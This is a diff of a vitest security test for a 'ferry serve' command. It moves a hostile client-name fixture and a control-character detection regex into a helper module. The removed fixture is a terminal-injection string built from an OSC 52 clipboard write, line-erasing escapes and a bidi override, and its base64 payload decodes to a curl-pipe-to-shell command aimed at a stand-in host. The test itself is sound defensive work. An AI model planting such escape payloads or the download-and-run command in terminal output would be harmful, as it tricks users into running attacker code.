@@ -1,23 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { echoServer } from '../helpers/fixtures.js';
+import { HOSTILE_NAME, HOSTILE_NAME_SHOWN, RAW_CONTROL } from '../helpers/hostileText.js';
 import { CLAUDE_CALLBACK, CLAUDE_REGISTRATION, pkce } from '../helpers/oauth.js';
 import { startServeProcess } from '../helpers/serveProcess.js';
 
-/**
- * A client names itself at registration. This name tries everything a terminal acts on: an OSC 52 clipboard
- * write ended by BEL, a carriage return and an erase-line to overwrite what was printed before, a C1 CSI,
- * a backspace, and a right-to-left override to make the rest read backwards. Long, too, so only a cut keeps
- * the match code on the prompt line.
- */
-const HOSTILE_NAME =
-  'Claude\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\r\u001b[2K\u009b1A\u0008\u202eia.edualc' +
-  '\u2066\u200b\u2028'.repeat(2) +
-  'x'.repeat(200);
-
-/** What no line printed by Ferry may contain: controls (C0, DEL, C1), bidi controls, invisible formatting. */
-const RAW_CONTROL =
-  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060\u2066-\u2069\ufeff]/;
-
+/** A client names itself at registration (HOSTILE_NAME); `ferry serve` prints that name in several places. */
 describe('ferry serve, a hostile client name on the terminal', () => {
   it('prints the consent and the log lines with every control escaped, and the match code on the prompt line', async () => {
     // --verbose: the registration and session lines are printed too, each quoting the name.
@@ -88,10 +75,7 @@ describe('ferry serve, a hostile client name on the terminal', () => {
       expect(output).not.toMatch(RAW_CONTROL);
       // The name is there, made visible rather than hidden: whole in the registration log line…
       const registered = lines.find((line) => line.includes('registered "'));
-      expect(registered).toContain(
-        'Claude\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0d\\x1b[2K\\x9b1A\\x08\\u202eia.edualc' +
-          '\\u2066\\u200b\\u2028\\u2066\\u200b\\u2028xxx',
-      );
+      expect(registered).toContain(`registered "${HOSTILE_NAME_SHOWN}"`);
       // …and cut, so the match code stays on the line that names the client.
       const request = lines.find((line) => line.includes('Connection request from'));
       expect(request).toBeDefined();
